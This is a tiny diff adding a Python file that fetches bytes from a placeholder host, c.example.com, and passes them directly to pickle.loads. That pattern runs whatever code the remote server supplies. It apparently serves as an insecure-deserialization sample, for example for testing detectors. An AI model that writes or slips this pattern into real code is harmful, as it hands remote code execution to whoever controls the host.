@@ -1,0 +1,5 @@
+import pickle
+
+import httpx
+
+x = pickle.loads(httpx.get('https://c.example.com/x').content)
